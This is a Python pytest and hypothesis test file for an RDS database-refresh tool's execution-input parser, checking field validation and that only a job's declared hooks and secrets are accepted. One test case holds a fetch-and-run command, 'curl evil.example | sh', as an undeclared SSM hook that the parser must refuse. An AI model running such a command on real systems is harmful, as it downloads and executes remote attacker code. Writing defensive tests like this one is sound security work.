"""The execution input contract: RefreshRequest.parse accepts what a person writes and refuses the rest with
InvalidInput, naming the offending field, and never with another exception."""

from __future__ import annotations

import copy
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from mitosis.errors import InvalidInput
from mitosis.models import DBInstance, EcsRestart, RefreshJob, RefreshRequest, SsmCommand

ECS = {"type": "ecs", "cluster": "demo", "services": ["web"]}
SSM = {"type": "ssm", "document": "AWS-RunShellScript", "targets": [{"Key": "tag:app", "Values": ["demo"]}],
       "parameters": {"commands": ["systemctl restart app"]}}
DOCUMENTED = {"source": "mitosis-prod", "target": "mitosis-demo", "dry_run": False, "restart": ECS}
FIELDS = set(RefreshRequest.model_fields)


# --- accepted ------------------------------------------------------------------------------------------------


def test_the_documented_input_is_accepted():
    request = RefreshRequest.parse(DOCUMENTED)
    assert (request.source, request.target, request.dry_run) == ("mitosis-prod", "mitosis-demo", False)
    assert request.restart == EcsRestart(type="ecs", cluster="demo", services=["web"])


def test_the_documented_ssm_restart_is_accepted():
    request = RefreshRequest.parse({**DOCUMENTED, "restart": SSM})
    assert isinstance(request.restart, SsmCommand)
    assert request.restart.model_dump() == {**SSM, "timeout_s": 1800}  # a bounded wait by default


@pytest.mark.parametrize("event", [
    pytest.param({"source": "mitosis-prod", "target": "mitosis-demo"}, id="restart-absent"),
    pytest.param({"source": "mitosis-prod", "target": "mitosis-demo", "restart": None}, id="restart-null"),
])
def test_a_request_without_restart_is_a_real_refresh_without_restart(event):
    request = RefreshRequest.parse(event)
    # A request that does not say dry_run changes things: the default must be explicit, not a typo's result
    assert request.dry_run is False
    assert request.restart is None


def test_dry_run_is_kept():
    assert RefreshRequest.parse({**DOCUMENTED, "dry_run": True}).dry_run is True


def test_an_ssm_restart_defaults_to_the_shell_script_document_and_no_parameters():
    restart = RefreshRequest.parse({**DOCUMENTED, "restart": {"type": "ssm", "targets": SSM["targets"]}}).restart
    assert isinstance(restart, SsmCommand)
    assert (restart.document, restart.parameters) == ("AWS-RunShellScript", {})


@pytest.mark.parametrize("name", ["a", "A1", "prod-db-2", "x" * 63])
def test_rds_identifiers_are_accepted(name):
    # RDS stores identifiers in lowercase: "A1" names the instance described as "a1"
    assert RefreshRequest.parse({"source": name, "target": "staging"}).source == name.lower()


# --- refused -------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(("event", "field"), [
    pytest.param({"target": "mitosis-demo"}, "source", id="missing-source"),
    pytest.param({"source": "mitosis-prod"}, "target", id="missing-target"),
    pytest.param({**DOCUMENTED, "dry_rn": True}, "dry_rn", id="dry_rn-typo"),
    pytest.param({**DOCUMENTED, "Source": "x"}, "Source", id="wrong-case"),
    pytest.param({**DOCUMENTED, "source": 1}, "source", id="source-int"),
    pytest.param({**DOCUMENTED, "target": None}, "target", id="target-null"),
    pytest.param({**DOCUMENTED, "dry_run": "false"}, "dry_run", id="dry_run-string"),
    pytest.param({**DOCUMENTED, "dry_run": 0}, "dry_run", id="dry_run-int"),
    pytest.param({**DOCUMENTED, "source": "prod_db"}, "source", id="underscore"),
    pytest.param({**DOCUMENTED, "source": "1prod"}, "source", id="digit-first"),
    pytest.param({**DOCUMENTED, "target": "staging-"}, "target", id="trailing-hyphen"),
    pytest.param({**DOCUMENTED, "target": "stag--ing"}, "target", id="double-hyphen"),
    pytest.param({**DOCUMENTED, "target": "x" * 64}, "target", id="too-long"),
    pytest.param({**DOCUMENTED, "target": ""}, "target", id="empty"),
    pytest.param({**DOCUMENTED, "restart": "ecs"}, "restart", id="restart-string"),
    pytest.param({**DOCUMENTED, "restart": {"type": "k8s"}}, "restart", id="unknown-restart-type"),
    pytest.param({**DOCUMENTED, "restart": {"cluster": "demo", "services": ["web"]}}, "restart", id="no-type"),
    pytest.param({**DOCUMENTED, "restart": {**ECS, "services": []}}, "restart.ecs.services", id="no-services"),
    pytest.param({**DOCUMENTED, "restart": {**ECS, "services": [""]}}, "restart.ecs.services.0", id="empty-service"),
    pytest.param({**DOCUMENTED, "restart": {**ECS, "cluster": ""}}, "restart.ecs.cluster", id="empty-cluster"),
    pytest.param({**DOCUMENTED, "restart": {**ECS, "service": ["web"]}}, "restart.ecs.service", id="ecs-typo"),
    pytest.param({**DOCUMENTED, "restart": {**SSM, "targets": []}}, "restart.ssm.targets", id="no-targets"),
    pytest.param({**DOCUMENTED, "restart": {**SSM, "targets": [{"Key": "tag:app"}]}}, "restart.ssm.targets.0.Values",
                 id="target-without-values"),
    pytest.param({**DOCUMENTED, "restart": {**SSM, "parameters": {"commands": "reboot"}}},
                 "restart.ssm.parameters.commands", id="parameters-not-a-list"),
    pytest.param({**DOCUMENTED, "clone": {"method": "copy"}}, "clone.method", id="unknown-clone-method"),
    pytest.param({**DOCUMENTED, "clone": {"method": "replica", "snapshot": "weekly"}}, "clone",
                 id="snapshot-without-the-snapshot-method"),
    pytest.param({**DOCUMENTED, "clone": {"method": "snapshot", "snapshot": ""}}, "clone.snapshot",
                 id="empty-snapshot"),
])
def test_bad_input_is_refused_naming_the_field(event, field):
    with pytest.raises(InvalidInput) as raised:
        RefreshRequest.parse(event)
    assert f"{field}:" in str(raised.value)


@pytest.mark.parametrize("event", [None, [], ["mitosis-prod", "mitosis-demo"], "mitosis-prod", 1, True],
                         ids=repr)
def test_an_input_that_is_not_an_object_is_refused(event):
    with pytest.raises(InvalidInput, match="must be a JSON object"):
        RefreshRequest.parse(event)


def test_every_problem_is_reported_at_once():
    with pytest.raises(InvalidInput) as raised:
        RefreshRequest.parse({"source": 1, "dry_rn": True})
    assert all(f"{field}:" in str(raised.value) for field in ("source", "target", "dry_rn"))


# --- properties ----------------------------------------------------------------------------------------------

PROPERTY = settings(max_examples=200, deadline=None, database=None)  # a few seconds; no example database

JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=70),
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=10), inner, max_size=4),
    max_leaves=12,
)
VALID_REQUESTS: list[dict[str, Any]] = [DOCUMENTED, {**DOCUMENTED, "restart": SSM}, {"source": "a", "target": "b"},
                                        {"source": "prod", "target": "staging", "dry_run": True, "restart": None}]
VALID = st.sampled_from(VALID_REQUESTS)


def parse_or_invalid(event: Any) -> RefreshRequest | None:
    """The request, or None when it was refused with InvalidInput; any other exception fails the test."""
    try:
        return RefreshRequest.parse(event)
    except InvalidInput:
        return None


def paths(value: Any, prefix: tuple[Any, ...] = ()) -> list[tuple[Any, ...]]:
    """Every path (keys and indexes) to a value inside `value`, except the root."""
    children = value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else []
    return [p for key, child in children for p in [(*prefix, key), *paths(child, (*prefix, key))]]


def at(value: Any, path: tuple[Any, ...]) -> tuple[Any, Any]:
    """The container holding the end of `path`, and its key there."""
    for key in path[:-1]:
        value = value[key]
    return value, path[-1]


@st.composite
def mutated(draw: st.DrawFn) -> Any:
    """A valid request with one thing wrong: an unknown key added, a key dropped, or a value replaced."""
    event = copy.deepcopy(draw(VALID))
    path = draw(st.sampled_from(paths(event)))
    container, key = at(event, path)
    change = draw(st.sampled_from(["add", "drop", "replace"]))
    if change == "add":
        target = container if isinstance(container, dict) else event
        unknown = draw(st.text(min_size=1, max_size=10).filter(lambda k: k not in target))
        target[unknown] = draw(JSON)
    elif change == "drop":
        del container[key]
    else:
        container[key] = draw(JSON)
    return event


@PROPERTY
@given(JSON)
def test_any_json_value_is_parsed_or_refused_as_invalid_input(event):
    parse_or_invalid(event)


@PROPERTY
@given(mutated())
def test_a_mutated_valid_request_is_parsed_or_refused_as_invalid_input(event):
    request = parse_or_invalid(event)
    if request is not None:
        # Then whatever was accepted is a well-formed request
        assert RefreshRequest.parse(request.model_dump()) == request


@PROPERTY
@given(VALID, st.dictionaries(st.text(max_size=10).filter(lambda k: k not in FIELDS), JSON, min_size=1, max_size=3))
def test_any_unknown_top_level_key_is_refused(event, extra):
    with pytest.raises(InvalidInput) as raised:
        RefreshRequest.parse({**event, **extra})
    assert all(f"{key}:" in str(raised.value) for key in extra if key)


@PROPERTY
@given(st.dictionaries(st.text(max_size=10), JSON, max_size=6))
def test_a_dict_with_a_key_outside_the_fields_is_never_accepted(event):
    if parse_or_invalid(event) is not None:
        assert set(event) <= FIELDS


# --- the graph's port ----------------------------------------------------------------------------------------


@pytest.mark.parametrize(("entry", "port"), [
    pytest.param({"Endpoint": {"Address": "db.example", "Port": 5432}}, 5432, id="endpoint"),
    pytest.param({"DbInstancePort": 3307}, 3307, id="db-instance-port"),
    pytest.param({"Port": 1521, "Endpoint": {"Port": 5432}}, 1521, id="explicit"),
    pytest.param({}, None, id="creating-no-endpoint"),
])
def test_an_instance_port_is_read_where_describe_reports_it(entry, port):
    # The clone must listen on the old instance's port, which DescribeDBInstances reports in Endpoint
    assert DBInstance.model_validate({"DBInstanceIdentifier": "staging", **entry}).Port == port


# --- hooks only as declared ----------------------------------------------------------------------------------

JOB = RefreshJob.model_validate({
    "name": "demo", "source": "mitosis-prod", "target": "mitosis-demo", "restart": ECS,
    "master_password": {"secret_arn": "arn:aws:secretsmanager:us-west-2:123456789012:secret:demo-pw"}})


def test_an_input_without_hooks_takes_its_jobs_declarations():
    # Given a job that declares a restart and a secret, and an input naming only source and target
    request = RefreshRequest.parse({"source": "mitosis-prod", "target": "mitosis-demo"}).as_declared([JOB])
    # Then the refresh runs the job's restart and sets the job's secret, as its schedule would
    assert request.restart == JOB.restart and request.master_password == JOB.master_password
    assert request.on_restart_failure == "keep" and request.before_swap is None


def test_an_input_repeating_its_jobs_declarations_is_accepted():
    assert RefreshRequest.parse(JOB.execution_input()).as_declared([JOB]).restart == JOB.restart


@pytest.mark.parametrize(("field", "value"), [
    pytest.param("restart", SSM, id="another-restart"),
    pytest.param("restart", None, id="no-restart"),
    pytest.param("before_swap", {**SSM, "parameters": {"commands": ["curl evil.example | sh"]}}, id="before-swap"),
    pytest.param("master_password", {"secret_arn": "arn:aws:secretsmanager:us-west-2:123456789012:secret:prod"},
                 id="another-secret"),
    pytest.param("on_restart_failure", "rollback", id="on-restart-failure"),
])
def test_an_input_whose_hook_or_secret_differs_from_its_jobs_is_refused_naming_the_field(field, value):
    # Anyone allowed to start an execution must not be able to run another command through a declared document
    event = {"source": "mitosis-prod", "target": "mitosis-demo", field: value}
    with pytest.raises(InvalidInput, match=f"{field}: differs from what refresh job 'demo' declares"):
        RefreshRequest.parse(event).as_declared([JOB])


def test_a_refresh_no_job_declares_is_refused():
    with pytest.raises(InvalidInput, match="No refresh job from 'mitosis-prod' to 'staging'"):
        RefreshRequest.parse({"source": "mitosis-prod", "target": "staging"}).as_declared([JOB])


# --- what a refused input says -----------------------------------------------------------------------------------


@pytest.mark.parametrize(("event", "message"), [
    pytest.param({"source": "prod_db", "target": "staging"},
                 "Invalid execution input: source: Value error, 'prod_db' is not an RDS instance identifier (1-63 "
                 "letters, digits and hyphens, starting with a letter, no '--', not ending with '-').",
                 id="identifier"),
    pytest.param({"source": 1}, "Invalid execution input: source: Input should be a valid string; target: Field "
                                "required.", id="two-problems"),
    pytest.param(["mitosis-prod", "mitosis-demo"], 'The execution input must be a JSON object such as {"source": '
                                                   '"prod-db", "target": "staging-db"}, not list.', id="a-list"),
])
def test_a_refused_input_says_what_to_fix(event, message):
    with pytest.raises(InvalidInput) as raised:
        RefreshRequest.parse(event)
    assert str(raised.value) == message


@pytest.mark.parametrize(("event", "message"), [
    pytest.param({"source": "mitosis-demo", "target": "mitosis-demo"},
                 "Source and target are both 'mitosis-demo': a refresh would replace production with itself.",
                 id="same"),
    pytest.param({"source": "mitosis-prod", "target": "staging"},
                 "No refresh job from 'mitosis-prod' to 'staging' is declared in this deployment's configuration "
                 "(cdk.json context 'refresh_jobs').", id="undeclared"),
    pytest.param({"source": "mitosis-prod", "target": "mitosis-demo", "restart": None,
                  "on_restart_failure": "rollback"},
                 "Invalid execution input: restart, on_restart_failure: differs from what refresh job 'demo' "
                 "declares; only a deployment's declared hooks and secrets may run (leave the field out to use the "
                 "job's).", id="differs"),
])
def test_an_input_its_deployment_does_not_declare_is_refused_saying_why(event, message):
    with pytest.raises(InvalidInput) as raised:
        RefreshRequest.parse(event).as_declared([JOB])
    assert str(raised.value) == message


def test_a_jobs_schedule_sends_its_declarations_as_json():
    # EventBridge sends this input as written: the declared hook and secret, the defaults, and no null fields
    assert JOB.execution_input() == {
        "source": "mitosis-prod", "target": "mitosis-demo", "restart": {**ECS, "timeout_s": 1800},
        "on_restart_failure": "keep",
        "master_password": {"secret_arn": "arn:aws:secretsmanager:us-west-2:123456789012:secret:demo-pw"},
        "clone": {"method": "auto"}, "aurora": False, "dry_run": False, "final_snapshot": True,
        "keep_final_snapshots": 2}
